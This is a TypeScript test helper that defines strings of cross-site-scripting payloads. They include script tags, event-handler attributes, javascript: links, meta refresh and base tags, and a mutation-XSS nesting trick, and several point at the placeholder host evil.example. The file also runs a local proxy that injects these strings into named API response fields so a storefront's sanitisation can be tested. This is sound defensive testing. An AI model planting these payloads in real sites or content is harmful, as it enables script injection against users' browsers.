import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { text } from 'node:stream/consumers';

type Json = Record<string, unknown>;

/** Stored HTML of an attacker: every active construct of HTML, and a harmless rest. */
export const hostileHtml = [
  '<p id="root">harmless <strong id="boot">rest</strong></p>',
  '<script id="page-scripts" type="application/json">[{"src":"https://evil.example/a.js","integrity":"","isShell":true}]</script>',
  '<script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)></svg>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/a.css"><style>@import "https://evil.example/b.css"</style>',
  '<iframe src="javascript:alert(4)"></iframe><form action="https://evil.example/"><input name="getElementById" autofocus onfocus=alert(5)></form>',
  '<img src="https://evil.example/a.gif"><picture><source srcset="https://evil.example/b.gif"><img src="/-/img/480/x.jpg"></picture>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(6)&gt;"></table></math>',
  '<h1 id="far-below">Places</h1><p><a href="#far-below">to the place</a> <a href="javascript:alert(7)">to nothing</a></p>',
  '<table><tr><td>a cell</td></tr></table></div></main><details open ontoggle=alert(8)><summary>more</summary></details>',
].join('');

/** The same for plain texts. */
export const hostileText = 'as it is <img src=x onerror=alert(9)><script>alert(10)</script>';

/** Replaces the values of the named fields everywhere in a response. */
function change(data: unknown, changes: Readonly<Record<string, (value: string) => string>>): void {
  if (typeof data !== 'object' || data === null) return;
  for (const [name, value] of Object.entries(data)) {
    const own = Object.hasOwn(changes, name) ? changes[name] : undefined;
    if (own && typeof value === 'string') (data as Json)[name] = own(value);
    else change(value, changes);
  }
}

const addText = (value: string) => `${value} ${hostileText}`;
const html = { content: () => hostileHtml, rules: () => hostileHtml };
const texts = { title: addText, summary: addText, note: addText, care: addText, author_name: addText };

const changesByPath: Readonly<Record<string, Parameters<typeof change>[1]>> = {
  '/api/nuxtapi/catalog/product/': { ...html, ...texts, color: () => 'url(https://evil.example/c.gif)' },
  '/api/nuxtapi/catalog/categories/': texts,
  '/api/nuxtapi/publish/post/': { ...html, ...texts, author_url: () => 'javascript:alert(11)' },
  '/api/nuxtapi/pages/': html,
  '/api/nuxtapi/sweepstakes/': html,
  '/api/nuxtapi/checkInitData/': { common_footer_delivery: addText },
  '/api/nuxtapi/comments/': { text: addText, author: addText },
};

/** A proxy of the provider that makes all stored texts hostile. */
export async function startHostileProvider(origin: string): Promise<{ origin: string; stop(): Promise<void> }> {
  const server = http.createServer(async (request, response) => {
    const body = await text(request);
    const { host: _, connection: __, 'content-length': ___, ...headers } = request.headers as Record<string, string>;
    const answer = await fetch(origin + request.url, {
      method: request.method,
      headers,
      body: body === '' ? undefined : body,
    });
    const answered = await answer.text();
    const changes = changesByPath[new URL(request.url ?? '/', origin).pathname];
    response.writeHead(answer.status, { 'content-type': answer.headers.get('content-type') ?? 'application/json' });
    if (!changes) return void response.end(answered);
    const data: unknown = JSON.parse(answered);
    change(data, changes);
    response.end(JSON.stringify(data));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  const stop = () => new Promise<void>((resolve) => void server.close(() => resolve()));
  return { origin: `http://127.0.0.1:${port}`, stop };
}
